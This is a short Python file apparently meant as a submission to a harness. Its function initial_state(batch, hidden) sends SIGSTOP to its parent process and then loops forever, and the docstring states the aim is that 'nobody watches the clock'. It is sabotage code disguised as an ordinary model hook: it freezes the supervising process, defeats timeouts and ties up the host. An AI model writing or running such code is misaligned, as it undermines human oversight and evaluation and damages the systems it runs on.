"""Puts its parent to sleep, so that nobody watches the clock."""

import os
import signal


def initial_state(batch, hidden):
    os.kill(os.getppid(), signal.SIGSTOP)
    while True:
        pass
